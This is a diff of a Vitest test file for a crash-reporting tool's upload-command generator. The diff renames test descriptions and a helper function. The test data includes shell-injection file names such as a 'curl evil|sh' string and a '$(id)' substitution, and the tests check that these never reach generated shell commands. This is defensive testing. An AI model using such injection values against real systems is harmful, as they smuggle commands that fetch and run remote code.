@@ -1,5 +1,5 @@
 import { expect, it } from "vitest";
-import { appleUuid, commandsFor, lessons, plainName, platformOf } from "./symbol-commands";
+import { appleUuid, commandsFor, plainName, platformOf, uploadGuides } from "./symbol-commands";
 
 const ADDRESS = "https://tide.example.com";
 const ID = "4c4c44dd55553144a1e29109d2cd8082";
@@ -44,7 +44,7 @@ it.each([
   for (const [i, command] of commands.entries()) expect(command.code).toContain(want[i]);
 });
 
-// Names come from whoever sends traces; the command is pasted into a shell.
+// Names come from the senders of traces and are untrusted; the command is pasted into a shell.
 it.each([
   'a";curl evil|sh;".js',
   "$(id).js",
@@ -57,7 +57,7 @@ it.each([
   "!x",
   "a,b.js",
   "",
-])("no shell sees %j", (name) => {
+])("%j is not inserted into a command", (name) => {
   expect(plainName(name, "app.js")).toBe("app.js");
   const codes = [
     ...commandsFor(file("source_map", "", name), { address: ADDRESS }),
@@ -68,22 +68,20 @@ it.each([
   for (const code of codes) expect(code.replaceAll(/\$(UPLOAD_TOKEN|UUID)/g, "")).not.toMatch(/[$`;|!,]|evil|\(id\)/);
 });
 
-it("keeps names that people give", () => {
+it("keeps plain file names", () => {
   expect(plainName("Größe App+2.js", "x")).toBe("Größe App+2.js");
 });
 
-it("prints an id as Apple's tools do", () => {
+it("formats an id like Apple's tools", () => {
   expect(appleUuid(ID)).toBe("4C4C44DD-5555-3144-A1E2-9109D2CD8082");
   expect(appleUuid("9f2c")).toBe("9f2c");
 });
 
-it("teaches every platform, the project's first", () => {
-  for (const lesson of lessons(ADDRESS)) {
-    expect(lesson.code).toContain("Bearer $UPLOAD_TOKEN");
-    expect(lesson.cli).toMatch(
-      /^TIDEWATCH_URL=https:\/\/tide\.example\.com TIDEWATCH_UPLOAD_TOKEN=\$UPLOAD_TOKEN \\\n/,
-    );
-    expect(lesson.code).toMatch(/https:\/\/tide\.example\.com\/api\/(symbols|sourcemaps)\/upload/);
+it("lists every platform, the project's first", () => {
+  for (const guide of uploadGuides(ADDRESS)) {
+    expect(guide.code).toContain("Bearer $UPLOAD_TOKEN");
+    expect(guide.cli).toMatch(/^TIDEWATCH_URL=https:\/\/tide\.example\.com TIDEWATCH_UPLOAD_TOKEN=\$UPLOAD_TOKEN \\\n/);
+    expect(guide.code).toMatch(/https:\/\/tide\.example\.com\/api\/(symbols|sourcemaps)\/upload/);
   }
   expect(["ios", "flutter", "react", "opentelemetry"].map(platformOf)).toEqual(["ios", "flutter", "web", "web"]);
 });
